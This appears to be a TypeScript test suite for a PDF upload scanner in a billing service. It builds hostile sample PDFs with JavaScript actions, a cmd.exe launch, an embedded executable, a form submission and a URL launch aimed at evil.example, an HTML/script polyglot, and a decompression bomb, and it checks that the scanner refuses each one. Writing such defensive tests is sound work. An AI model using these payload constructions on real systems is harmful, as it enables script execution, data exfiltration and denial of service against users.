/**
 * Issue 9 point 8: PDFs that can act (JavaScript, actions, launches, embedded files, XFA, rich media) and PDF/HTML
 * polyglots are refused at upload with 415 FILE_ACTIVE_CONTENT; stored files are answered with a sandboxing CSP,
 * nosniff and as attachments. The hostile PDFs are built here, byte by byte.
 */
import { randomUUID } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { FILE_CSP } from '@/lib/server/api/fileResponse';
import { hasActiveContent, inspectFile, scanPdfActiveContent } from '@/lib/server/uploads';
import { createBill, createSlip, multipart, pdfBytes } from '../api/bills/billFixtures';
import { createMember, tokenFor } from '../api/helpers/fixtures';
import { describeEachDb } from '../api/helpers/testDb';
import { useTestServer } from '../api/helpers/testServer';

/**
 * A structurally whole PDF (header, numbered objects, xref table, trailer, startxref, %%EOF) from object bodies;
 * `streams[i]` (raw bytes) becomes the stream of object i + 1 when given. `prefix` goes right after the header line.
 */
function buildPdf(objects: string[], opts: { streams?: Record<number, Buffer>; prefix?: string; suffix?: string } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${opts.prefix ?? ''}`, 'latin1')];
  const offsets: number[] = [];
  let size = parts[0]!.length;
  objects.forEach((body, i) => {
    offsets.push(size);
    const stream = opts.streams?.[i];
    const chunk = stream
      ? Buffer.concat([Buffer.from(`${i + 1} 0 obj\n${body}\nstream\n`, 'latin1'), stream, Buffer.from('\nendstream\nendobj\n', 'latin1')])
      : Buffer.from(`${i + 1} 0 obj\n${body}\nendobj\n`, 'latin1');
    parts.push(chunk);
    size += chunk.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\n${opts.suffix ?? ''}startxref\n${size}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'];
const withCatalog = (catalog: string, more: string[] = PAGES) => buildPdf([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...more]);

const HOSTILE: [string, Buffer][] = [
  ['/OpenAction running JavaScript', withCatalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')],
  ['document-level /JavaScript names', withCatalog('/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>')],
  ['a page /AA (additional actions)', withCatalog('', [PAGES[0]!, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /Named /N /Print >> >> >>'])],
  ['/Launch an executable', withCatalog('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['/EmbeddedFiles', withCatalog('/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>', [...PAGES, '<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>'])],
  ['/RichMedia annotation', withCatalog('', [PAGES[0]!, '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /RichMedia >>] >>'])],
  ['an XFA form', withCatalog('/AcroForm << /Fields [] /XFA 4 0 R >>', [...PAGES, '<< >>'])],
  ['/SubmitForm', withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.example/) >>')],
  ['a name hidden with #xx escapes (/J#61vaScript, /J#53)', withCatalog('/OpenAction << /S /J#61vaScript /J#53 (x) >>')],
  [
    'JavaScript inside a Flate-compressed object stream',
    buildPdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', ...PAGES, '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>'], {
      streams: { 3: deflateSync(Buffer.from('5 0 << /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\)) >>', 'latin1')) },
    }),
  ],
  ['a PDF/HTML polyglot (<html> right after the header)', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES], { prefix: '%<html><body>\n' })],
  ['a <script> block anywhere (before the trailer)', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES], { suffix: '% <script>alert(document.domain)</script>\n' })],
  ['a javascript: URI', withCatalog('/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>')],
];

const CLEAN: [string, Buffer][] = [
  ['a plain one-page PDF', withCatalog('')],
  ['/OpenAction that only opens page 1 fitted (no script)', withCatalog('/OpenAction [3 0 R /Fit]')],
  ['a receipt written by pdfkit (Flate content streams)', pdfBytes()],
  ['a PDF whose text mentions JavaScript in words, not names', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES, '<< /Title (About JavaScript and JS) >>'])],
];

describe('scanPdfActiveContent', () => {
  it.each(HOSTILE)('flags %s', (_, pdf) => {
    const report = scanPdfActiveContent(pdf);
    expect(hasActiveContent(report)).toBe(true);
  });

  it.each(CLEAN)('lets %s through', (_, pdf) => {
    const report = scanPdfActiveContent(pdf);
    expect(report).toEqual({ names: [], markup: [], inflateCapHit: false });
  });

  it('every hostile sample is otherwise a whole PDF (so it is the scan that refuses it, not the structure check)', async () => {
    for (const [name, pdf] of HOSTILE) {
      await expect(inspectFile({ fileName: 'x.pdf', declaredType: 'application/pdf', content: pdf }, ['application/pdf'])).rejects.toMatchObject({
        code: 'FILE_ACTIVE_CONTENT',
        http: 415,
      });
      expect(name).toBeTruthy();
    }
    for (const [, pdf] of CLEAN) {
      await expect(inspectFile({ fileName: 'x.pdf', declaredType: 'application/pdf', content: pdf }, ['application/pdf'])).resolves.toMatchObject({
        mimeType: 'application/pdf',
      });
    }
  });

  it('names the decompression-bomb case: more than the scan cap of inflated data is refused', () => {
    const bomb = buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES, '<< /Filter /FlateDecode >>'], { streams: { 3: deflateSync(Buffer.alloc(40 * 1024 * 1024)) } });
    expect(scanPdfActiveContent(bomb).inflateCapHit).toBe(true);
  });
});

describeEachDb('upload and file answers', (getHandle) => {
  const server = useTestServer(getHandle);
  let token: string;
  let ucpId: string;
  let billId: string;
  beforeAll(async () => {
    const m = await createMember(getHandle().db, ['payslip_upload_write', 'payslip_upload_read_all']);
    token = await tokenFor(m.user, m.customer.ucpId);
    ucpId = m.customer.ucpId;
    billId = (await createBill(getHandle().db, ucpId)).id;
  });

  const upload = (content: Buffer) => {
    const { body, contentType } = multipart([
      { name: 'idempotencyKey', value: randomUUID() },
      { name: 'billIds', value: billId },
      { name: 'amountCents', value: '100' },
      { name: 'paymentDate', value: new Date().toISOString().slice(0, 10) },
      { name: 'paymentMethod', value: 'fps' },
      { name: 'file', fileName: 'receipt.pdf', contentType: 'application/pdf', content },
    ]);
    return server.request('/api/paymentSlips/uploadSlip', { token, headers: { 'Content-Type': contentType }, rawBody: body });
  };

  it('refuses every hostile PDF with 415 FILE_ACTIVE_CONTENT and stores nothing', async () => {
    for (const [name, pdf] of HOSTILE) {
      const res = await upload(pdf);
      expect({ name, status: res.status, code: res.body?.error?.code }).toEqual({ name, status: 415, code: 'FILE_ACTIVE_CONTENT' });
    }
    const list = await server.post('/api/paymentSlips/listSlips', {}, { token });
    expect(list.body.data.total).toBe(0);
  });

  it('serves a stored file as a sandboxed, unsniffable attachment', async () => {
    const slip = await createSlip(getHandle().db, ucpId, []);
    const res = await server.post('/api/paymentSlips/getSlipFile', { id: slip.id }, { token });
    expect(res.status).toBe(200);
    expect(res.headers['content-security-policy']).toBe(FILE_CSP);
    expect(FILE_CSP).toBe("default-src 'none'; sandbox");
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-disposition']).toMatch(/^attachment;/);
  });
});
